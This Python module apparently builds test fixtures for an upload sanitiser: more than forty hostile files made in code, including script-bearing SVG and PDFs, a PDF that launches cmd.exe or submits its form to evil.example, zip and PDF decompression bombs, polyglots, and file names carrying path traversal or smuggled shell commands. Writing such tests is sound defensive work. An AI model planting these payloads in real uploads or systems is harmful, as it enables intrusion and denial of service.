"""Forty and more files that a stranger might send, made by code: no hostile byte lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from PIL import Image, PngImagePlugin

SCRIPT = b"<html><script>alert(8731)</script></html>"
# In two halves, so that no antivirus program takes this file for the test virus.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()


@dataclass(frozen=True)
class Hostile:
    """One file.

    Attributes:
        taken: what is harmless after it was written anew may be kept; everything else is refused.
        gone: bytes that must not be in what is kept.
    """

    label: str
    content: bytes
    name: str = "paper.jpg"
    mime: str = "image/jpeg"
    taken: bool = False
    gone: tuple[bytes, ...] = ()


def picture(size: tuple[int, int] = (60, 40), kind: str = "JPEG", **options: Any) -> bytes:
    """A small picture of many colours."""
    image = Image.effect_mandelbrot(size, (-2, -1.5, 1, 1.5), 50).convert("RGB")
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def pdf(pages: int = 1, dress: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    """A PDF of empty pages, changed by `dress` before it is written."""
    document = pikepdf.new()
    for _page in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if dress:
        dress(document)
    out = io.BytesIO()
    document.save(out, fix_metadata_version=False, **options)
    return out.getvalue()


def hostile_files() -> dict[str, list[Hostile]]:
    """Make them all, by what they pretend to be."""
    return {"nothing of ours": _no_pictures(), "pictures": _pictures(), "PDFs": _pdfs(), "names": _names()}


def _no_pictures() -> list[Hostile]:
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(8731)"><script>1</script></svg>'
    return [
        Hostile("nothing at all", b""),
        Hostile("one byte", b"\xff"),
        Hostile("HTML called JPEG", SCRIPT),
        Hostile("HTML after a mark of order", b"\xef\xbb\xbf" + SCRIPT, "a.png", "image/png"),
        Hostile("SVG", svg, "logo.svg", "image/svg+xml"),
        Hostile("SVG called PNG", svg, "logo.png", "image/png"),
        Hostile("EICAR", EICAR, "eicar.com", "application/pdf"),
        Hostile("EICAR called PDF", EICAR, "lease.pdf", "application/pdf"),
        Hostile("zip bomb", _zip_bomb(), "papers.zip", "application/zip"),
        Hostile("Word file with macros", _zip_bomb(b"word/vbaProject.bin"), "lease.docm", "application/pdf"),
        Hostile("program of Windows", b"MZ" + b"\0" * 400 + b"This program cannot be run in DOS mode", "scan.pdf.exe"),
        Hostile("program of Linux", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
        Hostile("GIF that is JavaScript", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(8731)//;", "a.gif", "image/gif"),
        Hostile("GIF that is JavaScript, called JPEG", b"GIF89a/*\0*/=1;alert(8731)//;"),
        Hostile("TIFF", picture(kind="TIFF"), "scan.tiff", "image/tiff"),
        Hostile("BMP", picture(kind="BMP"), "scan.bmp", "image/bmp"),
        Hostile("HEIC of a phone", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100, "IMG_1.HEIC", "image/heic"),
        Hostile("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n", "a.pdf", "application/pdf"),
    ]


def _pictures() -> list[Hostile]:
    sound, png = picture(), picture(kind="PNG")
    exif = Image.Exif()
    exif[0x010F] = "Secret Phone 8731"
    exif.get_ifd(0x8825).update({1: "N", 2: (39.0, 21.0, 55.0), 3: "E", 4: (21.0, 55.0, 8.0)})
    with_gps = picture(exif=exif, comment=b"Lives at the shelter 8731", icc_profile=b"\0\0\0\x80lcms8731" + b"\0" * 200)
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", "<script>alert(8731)</script>")
    texts.add_text("XML:com.adobe.xmp", "<x>8731</x>", zip=True)
    marks = (b"8731", b"Exif", b"ICC_PROFILE", b"script", b"lcms")
    return [
        Hostile("JPEG followed by HTML", sound + SCRIPT, taken=True, gone=marks),
        Hostile("JPEG followed by a zip", sound + _zip_bomb(), taken=True, gone=(b"PK\x03\x04",)),
        Hostile("JPEG with a place, a comment and a profile", with_gps, taken=True, gone=marks),
        Hostile("JPEG with EICAR as its comment", picture(comment=EICAR), taken=True, gone=(EICAR,)),
        Hostile("JPEG cut off", sound[: len(sound) // 2]),
        Hostile("JPEG of which only the beginning is one", b"\xff\xd8\xff\xe0" + SCRIPT * 50),
        Hostile("JPEG that says it is a PDF", sound, "lease.pdf", "application/pdf", taken=True),
        Hostile("PNG with texts", picture(kind="PNG", pnginfo=texts), "a.png", "image/png", taken=True, gone=marks),
        Hostile("PNG followed by a PDF", png + pdf(), "a.png", "image/png", taken=True, gone=(b"%PDF",)),
        Hostile("PNG of 64,000 x 64,000 points", _flood(64_000, 64_000), "a.png", "image/png"),
        Hostile("PNG of 2,147,483,647 points in a line", _flood(2**31 - 1, 1), "a.png", "image/png"),
        Hostile(
            "PNG whose data unpack to more than they should",
            _flood(50, 50, 300_000_000),
            "a.png",
            "image/png",
            taken=True,
        ),
        Hostile("PNG without data", _flood(60, 40, 0), "a.png", "image/png"),
        Hostile("PNG with a wrong sum", png[:40] + bytes([png[40] ^ 255]) + png[41:], "a.png", "image/png"),
        Hostile("WebP cut off", picture(kind="WEBP")[:60], "a.webp", "image/webp"),
        Hostile("WebP with a place", picture(kind="WEBP", exif=exif), "a.webp", "image/webp", taken=True, gone=marks),
    ]


def _pdfs() -> list[Hostile]:
    sound = pdf()
    made = [
        ("PDF with JavaScript when it opens", pdf(dress=_opens_with(S="/JavaScript", JS="app.alert(8731)"))),
        ("PDF with JavaScript by name", pdf(dress=_script_by_name)),
        ("PDF with JavaScript in a page's annotation", pdf(dress=_annotation_with_script)),
        ("PDF with JavaScript, packed away", pdf(dress=_script_by_name, object_stream_mode=_PACKED)),
        ("PDF that starts a program", pdf(dress=_opens_with(S="/Launch", F="cmd.exe"))),
        ("PDF that sends its form away", pdf(dress=_opens_with(S="/SubmitForm", F="http://evil.example/"))),
        ("PDF with a file inside", pdf(dress=_attach)),
        ("PDF with an XFA form", pdf(dress=_xfa)),
        ("PDF locked with a password", pdf(encryption=pikepdf.Encryption(user="geheim", owner="geheim"))),
        ("PDF that may only be read", pdf(encryption=pikepdf.Encryption(user="", owner="geheim"))),
        ("PDF of 10,000 pages", pdf(10_000)),
        ("PDF cut off", b"%PDF-1.7\n" + sound[9:80]),
        ("PDF that is only a beginning", b"%PDF-1.7\n" + SCRIPT),
        ("PDF whose pages are a circle", _circle()),
        ("PDF whose numbers are absurd", b"%PDF-1.7\n1 0 obj<</Length 99999999999999>>stream\n" + b"9" * 500),
        ("PDF nested a hundred thousand deep", b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj"),
        ("PDF behind HTML", SCRIPT + sound),
        ("PDF that unpacks to gigabytes", _pdf_bomb()),
    ]
    gone = (b"8731", b"/OpenAction", b"/Info")
    author = pdf(dress=_author)
    kept = Hostile("PDF with an author and a jump", author, "a.pdf", "application/pdf", taken=True, gone=gone)
    return [kept, *(Hostile(label, content, "paper.pdf", "application/pdf") for label, content in made)]


def _names() -> list[Hostile]:
    names = {
        "a way out": "../../../../settings.py",
        "a way out of Windows": "..\\..\\C:\\boot.ini",
        "marks from right to left": "paper\u202egpj.exe",
        "a second header": 'a"\r\nSet-Cookie: a=b\r\n\r\n<script>.jpg',
        "300 letters": "Ω" * 300 + ".jpg",
        "nothing but dots": "...",
        "emoji and a command": "😀;$(touch x)`id`|.jpg",
        "a template": "{{7*7}}<img src=x onerror=alert(8731)>.jpg",
    }
    # A line that ends inside a name ends the name: what is left names no file.
    return [Hostile(f"name with {label}", picture(), name, taken="\r" not in name) for label, name in names.items()]


_PACKED = pikepdf.ObjectStreamMode.generate


def _opens_with(**act: str) -> Callable[[pikepdf.Pdf], None]:
    def dress(document: pikepdf.Pdf) -> None:
        named = {f"/{key}": pikepdf.Name(value) if key == "S" else pikepdf.String(value) for key, value in act.items()}
        document.Root.OpenAction = pikepdf.Dictionary(named)

    return dress


def _script_by_name(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(8731)")))
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=names)


def _annotation_with_script(document: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"app.alert(8731)"))
    box = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=act
    )
    document.pages[0].obj.Annots = pikepdf.Array([box])


def _attach(document: pikepdf.Pdf) -> None:
    document.attachments["virus.exe"] = b"MZ" + b"\0" * 100


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=pikepdf.Array([]))


def _author(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = "Author 8731"
    document.Root.Metadata = document.make_stream(b"<x:xmpmeta>8731</x:xmpmeta>")
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def _circle() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def _pdf_bomb() -> bytes:
    # An object stream of three gigabytes of nothing, packed twice; whoever reads the file has to unpack it.
    layer = zlib.compressobj(9)
    packed = b"".join(layer.compress(b"\0" * 2**20) for _part in range(512)) + layer.flush()
    twice = zlib.compress(packed, 9)
    stream = b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(twice)
    table = zlib.compress(struct.pack(">BIB", 0, 0, 255) + struct.pack(">BIB", 1, 9, 0) + struct.pack(">BIB", 2, 1, 0))
    head = b"%PDF-1.5\n1 0 obj" + stream + twice + b"\nendstream endobj\n"
    xref = b"<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
    return head + b"3 0 obj" + xref + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(head)


def _zip_bomb(name: bytes = b"zeros") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name.decode(), b"\0" * 20_000_000)
    return out.getvalue()


def _flood(width: int, height: int, unpacked: int = 1_000) -> bytes:
    """A PNG that says it is large, or holds more than it says."""
    layer = zlib.compressobj(9)
    data = b"".join(layer.compress(b"\0" * min(2**20, unpacked - done)) for done in range(0, unpacked, 2**20))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", header), *([(b"IDAT", data + layer.flush())] if unpacked else []), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in chunks)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
